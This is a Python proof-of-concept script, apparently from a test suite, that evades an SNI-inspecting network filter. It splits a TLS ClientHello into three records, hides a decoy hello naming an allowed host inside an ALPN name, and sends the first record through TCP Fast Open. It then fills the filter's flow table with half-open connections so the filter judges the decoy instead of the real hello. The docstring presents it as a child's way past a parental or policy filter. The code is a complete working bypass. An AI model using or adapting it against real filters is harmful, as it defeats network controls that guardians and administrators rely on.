#!/usr/bin/env python3
"""A child's way past a judge that loses track of where a connection's opening starts (the
attack on the installed agent, 2026-12-01). Her real hello names REAL; she splits its one
handshake message into three records, the middle one being exactly a whole hello naming ALLOWED
(its bytes ride inside the real hello as an ALPN protocol name):

  1. the first record goes as TCP Fast Open data on the SYN; the link loses that SYN (the test's
     drop rule stands in), and TCP sends a plain SYN, then the record again as data;
  2. COUNT half-openings of hers to a listener of her own push the first record's pending flow
     out of the agent's table;
  3. the middle record goes alone: a whole hello naming ALLOWED, as if it began the stream;
  4. the rest follows. The server puts the three together: the real hello.

  tfo-prefix.py ADDRESS PORT ALLOWED REAL COUNT

Prints one word: served NAME (the server answered, and said which name it saw), reset, closed,
timeout, lost (the first record was never acknowledged) or error:WHY.
"""
import resource
import socket
import struct
import sys
import time

from tlsclient import MemoryClient, unacknowledged

address, port, allowed, real, count = sys.argv[1:6]
port, count = int(port), int(count)
family = socket.AF_INET6 if ":" in address else socket.AF_INET
server = (address, port)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
TCP_FASTOPEN_NO_COOKIE = 34
MSG_FASTOPEN = 0x20000000


def record(message):
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def plain_hello(name):
    """A ClientHello handshake message naming `name`, every byte below 0x80 (so that it can be an
    ALPN protocol name): version, random, no session, one suite, no compression, the name."""
    name = name.encode()
    extension = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b"\x03\x03" + b"R" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += struct.pack("!H", len(extension)) + extension
    return b"\x01" + len(body).to_bytes(3, "big") + body


def acknowledged(sock, seconds=5):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if unacknowledged(sock) == 0:
            return True
        time.sleep(0.002)
    return False


inner = plain_hello(allowed)
middle = record(inner)
client = MemoryClient(real, alpn=[inner.decode("ascii")])
whole = client.hello
if whole[0] != 0x16 or len(whole) != 5 + int.from_bytes(whole[3:5], "big"):
    sys.exit("OpenSSL's hello is not one record")
message = whole[5:]
at = message.find(inner)
first, rest = record(message[:at]), record(message[at + len(inner) :])

# Her listener, for the half-openings.
listener = socket.socket(socket.AF_INET)
listener.bind(("127.0.0.1", 0))
listener.listen(4096)

sock = socket.socket(family)
sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sock.settimeout(8)
try:
    sock.sendto(first, MSG_FASTOPEN, server)
except OSError as error:
    print("reset" if "reset" in str(error).lower() else "error:%s" % error)
    sys.exit(0)
if not acknowledged(sock):
    print("lost")
    sys.exit(0)
held = []
for _ in range(count):
    other = socket.socket(socket.AF_INET)
    other.connect(listener.getsockname())
    other.send(b"\x16\x03\x01\x01\x00\x01\x00\x00\xfc")
    held.append(other)
time.sleep(0.2)


def outcome():
    try:
        sock.send(middle)
        acknowledged(sock)
        time.sleep(0.05)
        sock.send(rest)
    except OSError as error:
        return "reset" if "reset" in str(error).lower() else "error:%s" % error
    return client.outcome(sock)


print(outcome())
for other in held:
    other.close()
